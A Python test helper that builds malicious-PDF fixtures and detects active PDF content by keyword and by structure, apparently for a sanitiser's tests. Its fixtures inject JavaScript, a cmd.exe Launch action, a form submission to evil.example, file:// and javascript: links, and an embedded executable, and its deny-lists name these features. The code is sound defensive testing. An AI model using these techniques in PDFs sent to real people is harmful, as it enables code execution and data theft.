"""PDFs that act by themselves, and how to see whether one still does."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.factories import files

FORBIDDEN = (
    "/JavaScript",
    "/JS",
    "/Launch",
    "/EmbeddedFile",
    "/OpenAction",
    "/AA",
    "/XFA",
    "/SubmitForm",
    "/GoToR",
    "/ImportData",
    "/RichMedia",
    "/Filespec",
    "cmd.exe",
    "app.alert",
    "file://",
    "javascript:",
)


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def evil(change) -> bytes:
    with pikepdf.open(io.BytesIO(files.pdf("Loss runs of Kestrel Roofing"))) as made:
        change(made)
        out = io.BytesIO()
        made.save(out)
    return out.getvalue()


def _annotated(made, **words):
    rect = Array([0, 0, 99, 99])
    made.pages[0].obj.Annots = Array(
        [made.make_indirect(Dictionary(Type=Name.Annot, Rect=rect, **words))]
    )


def link(**action):
    return lambda made: _annotated(made, Subtype=Name.Link, A=Dictionary(**action))


def _attach(made):
    made.attachments["invoice.exe"] = b"MZ cmd.exe"


def _script_by_name(made):
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["x", made.make_indirect(script())]))
    )


def form_field(made):
    field = made.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T="Insured",
            V="Kestrel",
            AA=Dictionary(K=script()),
            Subtype=Name.Widget,
            Type=Name.Annot,
            Rect=Array([0, 0, 9, 9]),
        )
    )
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA="app.alert", NeedAppearances=True)
    made.pages[0].obj.Annots = Array([field])


def _chain(made):
    last = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script())
    _annotated(made, Subtype=Name.Link, A=last)


def _deep(made):
    inner = Dictionary(A=script())
    for _ in range(20):
        inner = Dictionary(Inner=Array([inner]))
    made.Root.Outlines = inner


EVIL = {
    "runs when it is opened": lambda made: made.Root.__setitem__("/OpenAction", script()),
    "runs by a page's action": lambda made: made.pages[0].obj.__setitem__(
        "/AA", Dictionary(O=script())
    ),
    "runs by a name": _script_by_name,
    "runs by a field": form_field,
    "runs after a link": _chain,
    "runs from deep inside": _deep,
    "starts a program": link(S=Name.Launch, F="cmd.exe"),
    "sends a form": link(S=Name.SubmitForm, F="https://evil.example"),
    "opens another file": link(S=Name.GoToR, F="file://share/x.pdf", D=Array([0, Name.Fit])),
    "follows a script as a link": link(S=Name.URI, URI="javascript:app.alert(1)"),
    "follows a path as a link": link(S=Name.URI, URI="file://share/x"),
    "takes in other values": link(S=Name.ImportData, F="x.fdf"),
    "holds a program": _attach,
    "holds a program on a page": lambda made: _annotated(
        made,
        Subtype=Name.FileAttachment,
        FS=made.make_indirect(
            Dictionary(
                Type=Name.Filespec, F="cmd.exe", EF=Dictionary(F=made.make_stream(b"MZ cmd.exe"))
            )
        ),
    ),
    "plays something": lambda made: _annotated(
        made, Subtype=Name.RichMedia, RichMediaContent=Dictionary()
    ),
}


def everything_in(content: bytes) -> str:
    """Every object of a PDF, written out, with what is packed in its streams."""
    words = []
    with pikepdf.open(io.BytesIO(content)) as found:
        for one in found.objects:
            if isinstance(one, pikepdf.Stream):
                words += [one.stream_dict.unparse(resolved=True), _unpacked(one)]
            elif isinstance(one, pikepdf.Object):
                words.append(one.unparse(resolved=True))
            else:
                words.append(repr(one).encode())
    return b"\n".join(words).decode("latin-1")


def _unpacked(stream: pikepdf.Stream) -> bytes:
    try:
        return stream.read_bytes()
    except pikepdf.PdfError:
        # Packed data that was torn: what no reader can unpack is judged as it lies there.
        return stream.read_raw_bytes()


def acts(content: bytes) -> list[str]:
    """What a PDF could still do, by the words it would need for it."""
    inside = everything_in(content)
    return [word for word in FORBIDDEN if word in inside]


DANGEROUS = {
    "/S": {
        "/JavaScript",
        "/Launch",
        "/SubmitForm",
        "/ImportData",
        "/GoToR",
        "/GoToE",
        "/Rendition",
    },
    "/Subtype": {"/FileAttachment", "/RichMedia", "/Movie", "/Screen", "/Sound", "/3D"},
}
DANGEROUS_KEYS = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/EF", "/EmbeddedFiles", "/XFA"}


def dangers(content: bytes) -> list[str]:
    """What a reader of this PDF could be made to do: by its structure, not by stray words.

    Torn files are judged by this: a word that hangs nowhere does nothing.
    """
    found: list[str] = []
    with pikepdf.open(io.BytesIO(content)) as opened:
        for one in opened.objects:
            if isinstance(one, pikepdf.Object):
                _look(one, found)
        for page in opened.pages:
            listed = page.obj.get("/Annots")
            for mark in listed if isinstance(listed, Array) else ():
                kind = str(mark.get("/Subtype")) if isinstance(mark, Dictionary) else ""
                found += [kind] if kind in DANGEROUS["/Subtype"] else []
    return found


def _look(one: pikepdf.Object, found: list[str]) -> None:
    if isinstance(one, Array):
        inside = list(one)
    elif isinstance(one, Dictionary | pikepdf.Stream):
        found += DANGEROUS_KEYS & set(one.keys())
        deed = one.get("/S")
        found += [str(deed)] if isinstance(deed, Name) and str(deed) in DANGEROUS["/S"] else []
        address = str(one.get("/URI", "https://")) if "/URI" in one.keys() else "https://"  # noqa: SIM118
        is_plain = address.lower().startswith(("http://", "https://", "mailto:", "tel:"))
        found += [] if is_plain else [address]
        # A torn name that is no text cannot be asked for, and means nothing to a reader.
        named = [key for key in one.keys() if key.isprintable()]  # noqa: SIM118 - not a dict
        inside = [one.get(key) for key in named]
    else:
        return
    for inner in inside:
        if isinstance(inner, Array | Dictionary) and not inner.is_indirect:
            _look(inner, found)
